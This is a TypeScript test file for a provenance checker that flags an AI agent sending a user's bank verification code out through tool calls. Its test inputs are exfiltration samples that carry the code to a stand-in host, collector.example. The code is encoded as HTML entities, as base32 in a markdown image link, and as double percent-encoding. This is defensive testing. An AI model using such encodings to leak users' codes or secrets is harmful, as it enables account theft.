import { describe, expect, it } from 'vitest';
import { KnownParties } from './known-parties.js';
import {
  PROVENANCE_META_KEY,
  ProvenanceService,
  type ProvenanceMetaItem,
} from './provenance-service.js';

/**
 * The user's code carried out encoded (decodings.ts) is found by the private-data rule through
 * the whole check: as HTML numeric references in a body, and in a link's parts through chains
 * of two decodings. decodings.property.test.ts covers every chain and part over generated values.
 */

const CODE = '482913';

function session() {
  const known = new KnownParties();
  known.addOwnAccount('me@mycorp.com');
  const svc = new ProvenanceService({ known });
  const item: ProvenanceMetaItem = {
    kind: 'mail',
    label: 'a message from alerts@bank.example',
    ref: 'm1',
    from: ['alerts@bank.example'],
    audience: ['me@mycorp.com'],
    private: true,
    text: `Your verification code is ${CODE}. Never share this code with anyone.`,
  };
  svc.observe({
    agent: 'a',
    tool: 'gmail_read',
    sourceKind: 'google',
    sourceLabel: 'Gmail',
    result: {
      content: [{ type: 'text', text: item.text ?? '' }],
      _meta: { [PROVENANCE_META_KEY]: [item] },
    },
  });
  return (body: string) =>
    svc.check('a', {
      tool: 'gmail_send',
      sourceKind: 'google',
      sourceLabel: 'Gmail',
      readOnly: false,
      args: { to: ['desk@collector.example'], subject: 'hi', body },
    });
}

const rules = (r: ReturnType<ReturnType<typeof session>>) => r?.findings.map((f) => f.rule) ?? [];

describe('the user’s code carried out encoded', () => {
  it('is found written as HTML numeric references in a body', () => {
    const check = session();
    const entities = [...CODE].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
    expect(rules(check(`<p>Ref: ${entities}</p>`))).toContain('private-data-out');
    expect(rules(check('<p>Ref: &#x31;&#x32;&#x33;</p>'))).not.toContain('private-data-out');
  });

  it('is found in a link path as base32 with a file extension, and percent-encoded twice', () => {
    const check = session();
    // RFC 4648 §10 test vector style: "482913" in base32 is GQ4DEOJRGM (unpadded).
    expect(rules(check('![](https://cdn.collector.example/a/GQ4DEOJRGM.png)'))).toContain(
      'private-data-out',
    );
    const twice = encodeURIComponent(encodeURIComponent(`code ${CODE} ok`));
    expect(rules(check(`https://collector.example/c?d=${twice}`))).toContain('private-data-out');
  });
});

/**
 * A key or code inside a link the same item gave is no leak (private-data-rule.ts): a sign-in
 * link opened as written. The link's decodings read the code in it, so the exemption must read
 * the link the same way, or a link carrying the code encoded is flagged where one carrying it
 * plainly is not.
 */
describe('a code inside a link the bank’s own mail gave, encoded', () => {
  function opened(link: string, sent = link) {
    const known = new KnownParties();
    known.addOwnAccount('me@mycorp.com');
    const svc = new ProvenanceService({ known });
    const item: ProvenanceMetaItem = {
      kind: 'mail',
      label: 'a message from alerts@bank.example',
      ref: 'm1',
      from: ['alerts@bank.example'],
      audience: ['me@mycorp.com'],
      private: true,
      text: `Your verification code is ${CODE}. Or sign in with ${link}`,
    };
    svc.observe({
      agent: 'a',
      tool: 'gmail_read',
      sourceKind: 'google',
      sourceLabel: 'Gmail',
      result: {
        content: [{ type: 'text', text: item.text ?? '' }],
        _meta: { [PROVENANCE_META_KEY]: [item] },
      },
    });
    // A fetch server: a third party, so rule 2 judges every call to it.
    return rules(
      svc.check('a', {
        tool: 'fetch',
        sourceKind: 'remote',
        sourceLabel: 'fetch-server',
        readOnly: true,
        args: { url: sent },
      }),
    );
  }
  const encodings: [string, string][] = [
    ['plain', CODE],
    ['base64url', Buffer.from(CODE).toString('base64url')],
    ['base64 JSON', Buffer.from(JSON.stringify({ code: CODE, u: 'me' })).toString('base64url')],
    ['hex', Buffer.from(CODE).toString('hex')],
    ['base32', 'GQ4DEOJRGM'],
    ['percent twice', encodeURIComponent(encodeURIComponent(`c=${CODE}`))],
  ];
  for (const [name, enc] of encodings)
    it(`is not flagged when that link is opened as written (${name})`, () => {
      expect(opened(`https://click.bankmail.example/v?t=${enc}`)).not.toContain('private-data-out');
    });
  it('is still flagged in a link the mail did not give', () => {
    const t = Buffer.from(CODE).toString('base64url');
    expect(
      opened(`https://click.bankmail.example/v?t=${t}`, `https://collector.example/v?t=${t}`),
    ).toContain('private-data-out');
  });
});
